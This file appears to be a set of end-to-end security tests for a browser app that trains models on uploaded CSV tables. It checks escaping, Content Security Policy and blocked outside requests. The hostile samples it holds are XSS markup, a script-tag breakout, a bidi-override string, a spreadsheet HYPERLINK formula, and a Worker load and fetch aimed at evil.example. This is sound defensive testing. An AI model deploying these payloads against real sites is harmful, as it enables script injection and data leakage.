import type { Page } from 'playwright';
import { expect, onTestFinished, test } from 'vitest';
import { pagePolicy, workerPolicy } from '../../../scripts/policy.mjs';
import { csvOf } from '../../unit/core/data/table/tables';
import { dropFile } from './drop-file';
import { type OpenOptions, openPage, step } from './harness';

declare global {
  interface Window {
    /** What the hostile names of these tests would set. */
    hacked?: boolean;
  }
}

const markup = '<img src=x onerror="window.hacked=true">';
const turned = '\u202eevil\u2066<b>';

/** A table whose every name and text is written by somebody who means harm. */
const hostileCsv = csvOf([
  [
    `${markup}x`,
    turned,
    '=HYPERLINK("http://evil.example")',
    '</script><script>window.hacked=true</script>',
    `y ${markup}`,
  ],
  ...Array.from({ length: 60 }, (_, row) => [
    `${row % 7}`,
    `${row % 5}`,
    [markup, '=1+1', turned][row % 3]!,
    `${(row * 3) % 11}`,
    `${(row * 7) % 13}`,
  ]),
]);

/** Opens the page and keeps what it asks for. */
async function watched(options: OpenOptions = {}) {
  const page = await openPage(options);
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(request.url()));
  const { origin } = new URL(page.url());
  onTestFinished(() => {
    expect(asked.filter((url) => !/^(?:data|blob):/.test(url) && new URL(url).origin !== origin)).toEqual([]);
  });
  return page;
}

const isClean = (page: Page) =>
  page.evaluate(() => window.hacked === undefined && document.querySelector('[onerror]') === null);

test('a table with hostile names is shown as it is written wherever it is shown, and nothing leaves the page', async () => {
  const page = await watched();
  await dropFile(page, `${markup}.csv`, hostileCsv);
  await page.getByRole('heading', { name: `What is in ${markup}.csv?` }).waitFor();
  await page.getByLabel(`Role of y ${markup}`).waitFor();
  expect(await isClean(page)).toBe(true);
  await page.getByLabel(/^Role of evil<b>/).selectOption('Task: number');
  await page.getByRole('button', { name: 'Train on this table' }).click();
  expect(await page.evaluate(() => window.mtl.ready())).toEqual(['evil<b>', `y ${markup}`]);
  await step(page, 20);
  for (const tab of ['Metric', 'Weights', 'Conflict', 'Loss']) {
    await page.getByRole('tab', { name: tab, exact: true }).click();
    await page.locator('[data-chart]').first().waitFor();
  }
  await page
    .getByRole('button', { name: /how it works$/ })
    .first()
    .click();
  await page.locator('.katex').first().waitFor();
  await page.keyboard.press('Escape');
  for (const format of ['svg', 'csv']) {
    await page.getByRole('button', { name: 'Read or save the charts' }).click();
    const saved = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: `(${format.toUpperCase()})` }).click();
    const file = await (await saved).createReadStream();
    let written = '';
    for await (const part of file) written += part;
    expect(written).toContain(format === 'svg' ? '&lt;img src=x onerror=' : '<img src=x onerror=');
    if (format === 'svg') expect(written).not.toContain('<img');
  }
  expect(await isClean(page)).toBe(true);
});

test('the page runs no script that stands in it, makes no markup of a text, and takes no script from elsewhere', async () => {
  const page = await watched({
    hash: '#v=1&seed=3',
    expectedErrors: /requires 'Trusted|Content Security Policy/,
  });
  const refused = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
    const fails = (act: () => unknown) => {
      try {
        act();
        return false;
      } catch {
        return true;
      }
    };
    const div = document.createElement('div');
    const isMarkupRefused = fails(() => {
      div.innerHTML = '<img src=x onerror="window.hacked=true">';
    });
    const isWorkerRefused = fails(() => new Worker('https://evil.example/worker.js'));
    const isHandlerRefused = fails(() => document.body.setAttribute('onclick', 'window.hacked = true'));
    await fetch('https://evil.example/').catch(() => null);
    // Violations are told a task later.
    await new Promise((resolve) => setTimeout(resolve, 100));
    return {
      violations,
      isMarkupRefused,
      isWorkerRefused,
      isHandlerRefused,
      isClean: window.hacked === undefined,
    };
  });
  expect(refused).toMatchObject({
    isMarkupRefused: true,
    isWorkerRefused: true,
    isHandlerRefused: true,
    isClean: true,
  });
  expect(refused.violations).toContain('connect-src');
});

test('the page says its policy itself, and what serves it says that of its workers too', async () => {
  const page = await openPage({ hash: '#lab' });
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(
    pagePolicy,
  );
  const served = await page.request.get(page.url());
  expect(served.headers()['content-security-policy']).toBe(pagePolicy);
  const script = await page.locator('script[src*="assets/"]').first().getAttribute('src');
  const file = await page.request.get(new URL(script!, page.url()).href);
  expect(file.headers()['content-security-policy']).toBe(workerPolicy);
  const licenses = await page.request.get(new URL('licenses.txt', page.url()).href);
  for (const name of ['react', '@tensorflow/tfjs-core', 'papaparse', 'workbox-core']) {
    expect(await licenses.text()).toMatch(new RegExp(`^${name} [\\d.]+: (MIT|Apache-2.0)$`, 'm'));
  }
});
